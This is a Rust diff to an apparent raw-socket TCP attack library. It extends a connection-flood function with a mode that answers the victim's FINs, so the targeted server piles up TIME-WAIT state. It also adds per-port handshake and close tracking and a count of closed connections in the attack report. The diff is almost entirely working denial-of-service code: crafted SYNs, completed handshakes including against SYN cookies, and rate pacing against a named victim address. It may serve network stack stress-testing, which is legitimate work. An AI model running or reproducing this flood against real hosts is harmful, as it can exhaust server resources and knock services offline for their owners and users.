@@ -320,6 +320,7 @@ impl RawPeer {
             window,
             segments: self.sent,
             handshakes: 0,
+            fins: 0,
             elapsed: start.elapsed(),
         }
     }
@@ -383,6 +384,8 @@ pub struct AttackReport {
     pub segments: u64,
     /// Handshakes completed (the connection flood).
     pub handshakes: u64,
+    /// The victim's FINs answered with the peer's ([`AfterHandshake::AnswerFin`]).
+    pub fins: u64,
     /// Wall time the attack took.
     pub elapsed: Duration,
 }
@@ -482,9 +485,20 @@ pub fn syn_flood(
     Ok(p.report(0, start))
 }
 
+/// What the connection flood's peer does after each handshake.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum AfterHandshake {
+    /// Nothing: the connection stays silent.
+    Silent,
+    /// Answers the victim's FIN with its own, acknowledging the victim's: against a
+    /// server that closes each connection at once, the victim, which closed first,
+    /// holds the TIME-WAIT of each (TIME-WAIT churn).
+    AnswerFin,
+}
+
 /// A connection flood: `count` handshakes to `dst` from `src`'s address and the
 /// ports from `src`'s port up, each completed (the SYN-ACK answered, with SYN
-/// cookies too) and then left silent, at `rate` SYNs per second; the SYNs left
+/// cookies too) and then left to `after`, at `rate` SYNs per second; the SYNs left
 /// unanswered are sent once more after a second.
 pub fn conn_flood(
     iface: &str,
@@ -492,61 +506,103 @@ pub fn conn_flood(
     dst: SocketAddrV4,
     count: u16,
     rate: Option<f64>,
+    after: AfterHandshake,
 ) -> io::Result<AttackReport> {
     let mut p = RawPeer::open(iface, src, dst)?;
     let (start, mut pace) = (Instant::now(), Pacer::new(rate));
     let count = count.min(u16::MAX - src.port());
-    let isn = |port: u16| 0x6a09_e667u32.wrapping_mul(u32::from(port));
-    let mut done = vec![false; usize::from(count)];
+    let mut ports = Ports {
+        base: src.port(),
+        stage: vec![Stage::Syn; usize::from(count)],
+        close: after == AfterHandshake::AnswerFin,
+    };
     for round in 0..2 {
         for i in 0..count {
-            if done[usize::from(i)] {
+            if ports.stage[usize::from(i)] != Stage::Syn {
                 continue;
             }
             let port = src.port() + i;
             pace.wait();
-            p.send(&p.syn(port, isn(port)))?;
-            answer_syn_acks(&mut p, src.port(), &mut done, isn)?;
+            p.send(&p.syn(port, Ports::isn(port)))?;
+            ports.answer(&mut p)?;
         }
         let end = Instant::now() + Duration::from_secs(1 + round);
         while Instant::now() < end {
-            answer_syn_acks(&mut p, src.port(), &mut done, isn)?;
+            ports.answer(&mut p)?;
             std::thread::sleep(Duration::from_millis(1));
         }
     }
+    let past = |s: Stage| ports.stage.iter().filter(|x| **x >= s).count() as u64;
     Ok(AttackReport {
-        handshakes: done.iter().filter(|d| **d).count() as u64,
+        handshakes: past(Stage::Established),
+        fins: past(Stage::Closed),
         ..p.report(0, start)
     })
 }
 
-/// Answers every SYN-ACK waiting for the connection flood's ports with the
-/// handshake's final ACK.
-fn answer_syn_acks(
-    p: &mut RawPeer,
+/// Where a port of [`conn_flood`] stands.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Stage {
+    /// SYN sent, no SYN-ACK answered yet.
+    Syn,
+    /// Handshake completed.
+    Established,
+    /// The victim's FIN answered with the peer's.
+    Closed,
+}
+
+/// The ports of [`conn_flood`] and where each stands.
+struct Ports {
     base: u16,
-    done: &mut [bool],
-    isn: impl Fn(u16) -> u32,
-) -> io::Result<()> {
-    while let Some((port, th)) = p.try_recv_any()? {
-        let Some(i) = port.checked_sub(base).map(usize::from) else {
-            continue;
-        };
-        let synack = th.flags.contains(TcpFlags::SYN | TcpFlags::ACK);
-        if i >= done.len() || !synack || th.ack != isn(port).wrapping_add(1) {
-            continue;
-        }
-        let c = Conn {
-            port,
-            isn: isn(port),
-            irs: th.seq,
-            wscale: th.options.wscale.unwrap_or(0).min(14),
-            ts_recent: th.options.timestamp.map_or(0, |t| t.0),
-        };
-        p.send(&p.segment(&c, TcpFlags::ACK, 0, &[]))?;
-        done[i] = true;
+    stage: Vec<Stage>,
+    /// Answer the victim's FINs ([`AfterHandshake::AnswerFin`]).
+    close: bool,
+}
+
+impl Ports {
+    /// The peer's ISN on `port`.
+    fn isn(port: u16) -> u32 {
+        0x6a09_e667u32.wrapping_mul(u32::from(port))
     }
-    Ok(())
+
+    /// Answers every SYN-ACK waiting for the ports with the handshake's final ACK,
+    /// and with `close` every FIN with the peer's own FIN.
+    fn answer(&mut self, p: &mut RawPeer) -> io::Result<()> {
+        while let Some((port, th)) = p.try_recv_any()? {
+            let Some(i) = port.checked_sub(self.base).map(usize::from) else {
+                continue;
+            };
+            if i >= self.stage.len() {
+                continue;
+            }
+            let isn = Ports::isn(port);
+            let synack = th.flags.contains(TcpFlags::SYN | TcpFlags::ACK);
+            let fin = th.flags.contains(TcpFlags::FIN) && th.ack == isn.wrapping_add(1);
+            if (synack && th.ack == isn.wrapping_add(1)) || (fin && self.close) {
+                // Acknowledges `seq + 1`: the victim's SYN, or its FIN (no data
+                // came before it).
+                let c = Conn {
+                    port,
+                    isn,
+                    irs: th.seq,
+                    wscale: th.options.wscale.unwrap_or(0).min(14),
+                    ts_recent: th.options.timestamp.map_or(0, |t| t.0),
+                };
+                let flags = match synack {
+                    true => TcpFlags::ACK,
+                    false => TcpFlags::FIN | TcpFlags::ACK,
+                };
+                p.send(&p.segment(&c, flags, 0, &[]))?;
+                let next = if synack {
+                    Stage::Established
+                } else {
+                    Stage::Closed
+                };
+                self.stage[i] = self.stage[i].max(next);
+            }
+        }
+        Ok(())
+    }
 }
 
 #[cfg(test)]
